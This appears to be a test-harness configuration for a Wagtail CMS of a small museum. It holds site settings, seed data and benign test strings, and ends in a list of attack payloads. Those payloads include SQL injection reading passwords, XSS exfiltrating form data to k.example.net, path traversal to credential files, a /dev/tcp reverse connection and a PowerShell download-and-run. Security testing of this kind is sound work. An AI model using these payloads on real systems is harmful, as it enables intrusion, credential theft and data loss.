import type { Application } from "../application.ts";

const settings = `
from pathlib import Path
BASE_DIR = Path(__file__).parent
SECRET_KEY = "only-for-a-recording"
DEBUG = True
ALLOWED_HOSTS = ["127.0.0.1"]
INSTALLED_APPS = [
    "house", "wagtail.contrib.forms", "wagtail.contrib.redirects", "wagtail.contrib.search_promotions", "wagtail.embeds", "wagtail.sites",
    "wagtail.users", "wagtail.snippets", "wagtail.documents", "wagtail.images", "wagtail.search", "wagtail.admin", "wagtail", "modelcluster",
    "taggit", "django_filters", "django.contrib.admin", "django.contrib.auth", "django.contrib.contenttypes", "django.contrib.sessions",
    "django.contrib.messages", "django.contrib.staticfiles",
]
MIDDLEWARE = [
    "django.contrib.sessions.middleware.SessionMiddleware", "django.middleware.common.CommonMiddleware", "django.middleware.csrf.CsrfViewMiddleware",
    "django.contrib.auth.middleware.AuthenticationMiddleware", "django.contrib.messages.middleware.MessageMiddleware",
    "wagtail.contrib.redirects.middleware.RedirectMiddleware",
]
ROOT_URLCONF = "urls"
TEMPLATES = [{"BACKEND": "django.template.backends.django.DjangoTemplates", "DIRS": [BASE_DIR / "templates"], "APP_DIRS": True, "OPTIONS": {"context_processors": [
    "django.template.context_processors.request", "django.contrib.auth.context_processors.auth", "django.contrib.messages.context_processors.messages"]}}]
DATABASES = {"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": BASE_DIR / "db.sqlite3", "OPTIONS": {"timeout": 20, "init_command": "PRAGMA journal_mode=WAL;"}}}
WAGTAILSEARCH_BACKENDS = {"default": {"BACKEND": "wagtail.search.backends.database"}}
DEFAULT_AUTO_FIELD = "django.db.models.BigAutoField"
LANGUAGE_CODE = "en"
USE_TZ = True
TIME_ZONE = "UTC"
STATIC_URL = "/static/"
MEDIA_URL = "/media/"
MEDIA_ROOT = BASE_DIR / "media"
EMAIL_BACKEND = "django.core.mail.backends.dummy.EmailBackend"
WAGTAIL_SITE_NAME = "Canal House"
WAGTAILADMIN_BASE_URL = "http://127.0.0.1"
WAGTAIL_ENABLE_UPDATE_CHECK = False
WAGTAIL_ENABLE_WHATS_NEW_BANNER = False
WAGTAIL_GRAVATAR_PROVIDER_URL = None
`;

const models = `
from django.db import models
from modelcluster.fields import ParentalKey
from wagtail.admin.panels import FieldPanel, InlinePanel
from wagtail.contrib.forms.models import AbstractForm, AbstractFormField
from wagtail.fields import RichTextField
from wagtail.models import Page
from wagtail.search import index
from wagtail.snippets.models import register_snippet

class ExhibitPage(Page):
    template = "page.html"
    intro = models.TextField(blank=True)
    place = models.CharField(max_length=120, blank=True)
    body = RichTextField(blank=True)
    caption_html = models.TextField(blank=True)
    content_panels = Page.content_panels + [FieldPanel("intro"), FieldPanel("place"), FieldPanel("body"), FieldPanel("caption_html")]
    search_fields = Page.search_fields + [index.SearchField("intro"), index.SearchField("body")]

class EnquiryField(AbstractFormField):
    page = ParentalKey("EnquiryPage", on_delete=models.CASCADE, related_name="form_fields")

class EnquiryPage(AbstractForm):
    template = "form.html"
    landing_page_template = "thanks.html"
    thanks = models.CharField(max_length=200, blank=True)
    content_panels = AbstractForm.content_panels + [FieldPanel("thanks"), InlinePanel("form_fields", label="Fields")]

@register_snippet
class Lender(models.Model):
    name = models.CharField(max_length=160)
    terms = models.TextField(blank=True)
    panels = [FieldPanel("name"), FieldPanel("terms")]
    def __str__(self):
        return self.name
`;

const urls = `
from django.shortcuts import render
from django.urls import include, path
from wagtail import urls as wagtail_urls
from wagtail.admin import urls as wagtailadmin_urls
from wagtail.documents import urls as wagtaildocs_urls
from wagtail.models import Page

def search(request):
    asked = request.GET.get("query", "")
    found = Page.objects.live().search(asked)[:20] if asked else []
    return render(request, "search.html", {"asked": asked, "found": found})

urlpatterns = [path("admin/", include(wagtailadmin_urls)), path("documents/", include(wagtaildocs_urls)), path("search/", search), path("", include(wagtail_urls))]
`;

const fillHouse = `
import os
os.environ["DJANGO_SETTINGS_MODULE"] = "settings"
import django
django.setup()
from django.contrib.auth import get_user_model
from house.models import EnquiryField, EnquiryPage, ExhibitPage, Lender
from wagtail.models import Page, Site

get_user_model().objects.create_superuser("curator", "curator@example.org", "lock-keeper-55", first_name="House", last_name="Curator")
Page.objects.filter(depth=2).delete()
root = Page.objects.get(depth=1)
root.refresh_from_db()
home = root.add_child(instance=ExhibitPage(title="Canal House", slug="home", intro="Three centuries of water, trade and wet feet."))
Site.objects.all().delete()
Site.objects.create(hostname="127.0.0.1", root_page=home, is_default_site=True)
for title, place in [("The lock", "Courtyard"), ("A barge's kitchen", "Room 2"), ("Tolls and smugglers", "Room 3"), ("Ice year 1891", "Room 4"),
                     ("Horses of the towpath", "Barn"), ("Maps", "Attic"), ("Visit us", ""), ("School programmes", "Workshop")]:
    page = home.add_child(instance=ExhibitPage(title=title, place=place, intro=f"{title}: what was found, and who kept it.", body=f"<p>On show in {place or 'the house'} until further notice.</p>"))
    page.add_child(instance=ExhibitPage(title=f"{title}: sources", intro="Letters and ledgers."))
form = home.add_child(instance=EnquiryPage(title="Enquiries", slug="enquiries", thanks="Thank you."))
for order, (label, kind) in enumerate([("Name", "singleline"), ("Email", "email"), ("Subject", "singleline"), ("Message", "multiline")]):
    EnquiryField.objects.create(page=form, sort_order=order, label=label, field_type=kind, required=False)
for name in ["Harbour Board", "Parish of St Anne", "Private, by descent"]:
    Lender.objects.create(name=name, terms="Return within 12 months.")
for page in ExhibitPage.objects.all():
    page.save_revision().publish()
`;

const frame = (
  body: string,
) => `{% load wagtailcore_tags wagtailuserbar %}<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>{{ page.title|default:"Search" }}</title></head><body>{% wagtailuserbar %}<p><a href="/">Canal House</a> <a href="/search/">Search</a> <a href="/enquiries/">Enquiries</a></p>
${body}</body></html>`;

/** A content management system, here of a small museum; its visitors write pages and keep them in its admin, read them, search, and send enquiries. */
export const wagtail: Application = {
  name: "wagtail",
  packages: { pip: ["wagtail==8.0.1", "Django==5.2.19"] },
  files: () => ({
    "settings.py": settings,
    "urls.py": urls,
    "house/__init__.py": "",
    "house/migrations/__init__.py": "",
    "house/models.py": models,
    "fill.py": fillHouse,
    "templates/page.html": frame(
      '<h1>{{ page.title }}</h1><p>{{ page.intro }}</p>{{ page.body|richtext }}<ul>{% for one in page.get_children.live %}<li><a href="{% pageurl one %}">{{ one.title }}</a></li>{% endfor %}</ul>',
    ),
    "templates/form.html": frame(
      '<h1>{{ page.title }}</h1><form method="post" action="{% pageurl page %}">{% csrf_token %}{{ form.as_p }}<button type="submit">Send</button></form>',
    ),
    "templates/thanks.html": frame("<p>{{ page.thanks }}</p>"),
    "templates/search.html": frame(
      '<form action="/search/"><input type="search" name="query" value="{{ asked }}"><button>Search</button></form>{% for one in found %}<p><a href="{% pageurl one %}">{{ one.title }}</a></p>{% empty %}<p>Nothing found</p>{% endfor %}',
    ),
  }),
  prepare: () => [
    ["django-admin", "makemigrations", "house"],
    ["django-admin", "migrate", "--verbosity", "0"],
    ["python3", "fill.py"],
  ],
  start: ({ port }) => ["django-admin", "runserver", "--noreload", `127.0.0.1:${port}`],
  env: { DJANGO_SETTINGS_MODULE: "settings", PYTHONPATH: "." },
  ready: "/admin/login/",
  async enter(page, origin) {
    await page.goto(`${origin}/admin/`);
    await page.locator("input[name=username]").fill("curator");
    await page.locator("input[name=password]").fill("lock-keeper-55");
    await page.keyboard.press("Enter");
    await page.waitForURL(`${origin}/admin/`);
  },
  pages: [
    "/",
    "/enquiries/",
    "/search/?query=barge",
    "/a-barges-kitchen/",
    "/admin/pages/3/",
    "/admin/pages/6/edit/",
    "/admin/pages/9/edit/",
    "/admin/pages/13/edit/",
    "/admin/snippets/house/lender/edit/2/",
    "/admin/pages/add/house/exhibitpage/3/",
    "/admin/snippets/house/lender/add/",
    "/admin/redirects/add/",
  ],
  avoid:
    /delete|unpublish|\/move|privacy|account|\/users|\/groups|\/sites|workflow|\/(un)?lock\/|bulk|revert|admin\/(images|documents|forms|reports|help)/i,
  texts: {
    searches: [
      "barge",
      "lock keeper",
      "ice year",
      "smugglers & tolls",
      "towpath horse's bit",
      "map 1742",
      '"by descent"',
      "St Anne's parish",
      "inv. 1987/33",
      "school",
      "opening hours",
      "ledger; folio 12",
      "Schleuse",
      "péniche",
      "運河",
      "шлюз",
      "café",
      "kitchen (barge)",
      "room 3",
      "c. 1891–92",
      "50% off family ticket",
      "alt text missing",
      "draft",
      "O'Shea bequest",
      "copper + tin",
      "is the lift working?",
      "IMG_2041.jpg",
    ],
    lines: [
      "The lock-keeper's daughter",
      "Ice year 1891: eleven weeks",
      "Room 2 (closed on Mondays)",
      'Lantern, "bull\'s eye" type',
      "Copper kettle, c. 1860; dented",
      "O'Shea bequest, 1954",
      "Horses & harness",
      "Tolls: 2s 6d per ton",
      "École et musée",
      "Führungen am Sonntag",
      "運河の地図",
      "Карта канала",
      "What's in the barge kitchen?",
      "New for 2026!",
      "Attic, north side",
      "Loan from the Harbour Board (50%)",
      "/visit-us/getting-here",
      "old-maps",
      "Barge «Hoop»",
      "Children's trail – 7 stops",
      "inv. no. 1987/33 a–c",
      "Towpath: from A to B",
      "Curator's choice",
      "1 + 1 = family ticket",
      "🚤 Summer boat trips",
      "Wet feet? (Floods of 1953)",
      "Select committee on tolls, 1840",
    ],
    long: [
      'The kettle was found under the bilge boards in 1954. It\'s dented on one side; the family says "the horse did it".',
      "Opening hours\n\nTuesday–Sunday 10:00–17:00; last entry 16:15.\nClosed on Mondays (except bank holidays), 24–26 December.",
      '<figure>\n  <img src="/media/images/lock-1891.jpg" alt="The frozen lock, seen from the bridge">\n  <figcaption>Ice year, photograph by an unknown hand</figcaption>\n</figure>',
      '<p class="note">Loan: <em>Parish of St Anne</em> &amp; Harbour Board. See <a href="https://example.org/loans?year=2026#terms">the terms</a>.</p>',
      "Dear curators,\n\nmy grandmother's maiden name was O'Shea, and she used to tell us about the barge (the \"Hoop\"?). Do you hold any letters? I'd be happy to send scans; 14 pages, about 3 MB each.\n\nKind regards",
      "Tolls were 2s 6d per ton for coal, 1s for lime; manure went free. Smugglers therefore declared everything as manure (see ledger, fol. 12 v.).",
      "Wir möchten mit 28 Kindern (3. Klasse) kommen. Gibt es eine Führung über Schiffe und Pferde? Wir bräuchten auch einen Raum für die Pause; danke!",
      "## Trail for children\n\n1. Find the horse's shoe\n2. How many lanterns are there?\n3. **Don't** touch the stove!\n\n*Answers: at the desk.*",
      "Terms: return within 12 months; light < 50 lux; RH 50% ± 5%; insurance per schedule B. The lender's consent is needed for photographs.",
      "Bonjour, l'ascenseur est-il de nouveau en service ? Ma mère est en fauteuil roulant (largeur 62 cm). D'avance merci.",
      'Text for the wall, 60 words at most: "Horses drew the barges until 1921. A pair could pull 50 tons at 3 mph – and knew every inn on the way." (That\'s 24; fine.)',
      "User-agent: *\nDisallow: /admin/\nSitemap: https://canalhouse.example/sitemap.xml\n\n^ can we put this in robots.txt, please? Google's showing drafts.",
      '<iframe width="560" height="315" src="https://video.example.org/embed/9xKq" title="The lock at work" allowfullscreen></iframe>',
      "冬の間、運河は十一週間凍りました。写真は1891年のものです。ご質問は受付まで。",
      'Corrections by the archive: 1) not 1892 but 1891; 2) "towing-path" in the sources, "towpath" in ours; 3) delete the semicolon after \'ledger\'.',
      "Flow through the paddle: Q = C·A·√(2·g·h), so with A = 0.6 m² and h = 2.4 m it's ≈ 2.5 m³/s. The model in room 1 shows it at 1:20.",
      ".caption { font-size: 90%; color: #345; }\n.caption::before { content: '\\2014\\00a0'; }\n\nPlease ask the agency to add these two lines to main.css.",
      "Здравствуйте! Можно ли купить каталог выставки «Лёд 1891 года» по почте? Сколько стоит доставка?",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload: "barge') UNION SELECT id,password,username,is_superuser,null FROM auth_user WHERE username LIKE ('cur%",
    },
    {
      class: "sql_injection",
      payload:
        "lock' AND 9174=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT USER FROM DUAL)||CHR(62))) FROM DUAL) AND 'vT'='vT",
    },
    { class: "sql_injection", payload: "6); DELETE FROM wagtailcore_revision WHERE (1=1" },
    {
      class: "sql_injection",
      payload:
        "-title'+(SELECT/*!50000(CASE*/WHEN/**/(ORD(MID(@@version,1,1))>52)/**/THEN/**/BENCHMARK(9000000,SHA1(1))ELSE 0 END))+'",
    },
    {
      class: "sql_injection",
      payload:
        'Maps\\" OR 1=2 OR title IS NOT NULL AND (SELECT length(session_data) FROM django_session LIMIT 1)>10-- x',
    },
    {
      class: "sql_injection",
      payload:
        "house';DECLARE @q varchar(99);SET @q='\\\\'+db_name()+'.d4.oast.example\\a';EXEC master..xp_dirtree @q;--",
    },
    {
      class: "xss",
      payload: "<img src=\"/media/x.jpg\" onload=\"$.post('/admin/users/new/',{username:'q',is_superuser:1})\">",
    },
    {
      class: "xss",
      payload:
        "<p>Opening hours</p><script>setInterval(()=>fetch('https://k.example.net/l?'+btoa(document.forms[0]?.innerHTML)),900)</script>",
    },
    {
      class: "xss",
      payload:
        "<a href=\"data:text/html,%3Cscript%3Eopener.location='//k.example.net'%3C/script%3E\" target=_blank>Tickets</a>",
    },
    {
      class: "xss",
      payload:
        "<form><button formaction=\"JaVaScRiPt:fetch('//k.example.net/'+localStorage.length)\">Book now</button></form>",
    },
    {
      class: "xss",
      payload: "{{constructor.constructor('document.body.append(document.cookie)')()}}<marquee onstart=alert(/house/)>",
    },
    { class: "path_traversal", payload: "/media/../../settings.py%3f.jpg" },
    { class: "path_traversal", payload: "/documents/1/..%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config" },
    { class: "path_traversal", payload: "images/%uff0e%uff0e%u2215%uff0e%uff0e%u2215var/log/auth.log" },
    { class: "path_traversal", payload: "/static/css/../../../../../../../../home/www/.aws/credentials" },
    { class: "command_injection", payload: `lock-1891.jpg' -write msl:/tmp/q.msl; touch\${IFS}/tmp/pwned '` },
    {
      class: "command_injection",
      payload: "{% load log %}{% get_admin_log 5 as l %}{{ settings.SECRET_KEY }}{% include request.META.PATH_INFO %}",
    },
    {
      class: "command_injection",
      payload: 'lock.mvg: image over 0,0 0,0 \'https://example.com/i.png"|bash -c "id>/dev/tcp/198.18.4.4/81"\'',
    },
    {
      class: "command_injection",
      payload:
        'Room 2" & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://198.18.4.4/p.ps1\')" & rem "',
    },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY host SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&host;</text></svg>',
    },
  ],
};
